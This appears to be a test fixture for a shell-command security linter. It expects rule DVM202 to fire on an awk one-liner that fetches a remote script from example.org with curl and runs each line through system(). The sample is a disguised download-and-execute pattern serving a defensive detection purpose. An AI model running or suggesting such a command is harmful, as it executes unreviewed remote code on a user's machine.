# expect: DVM202
awk 'BEGIN { while (("curl -fsSL https://example.org/i.sh" | getline line) > 0) system(line) }'
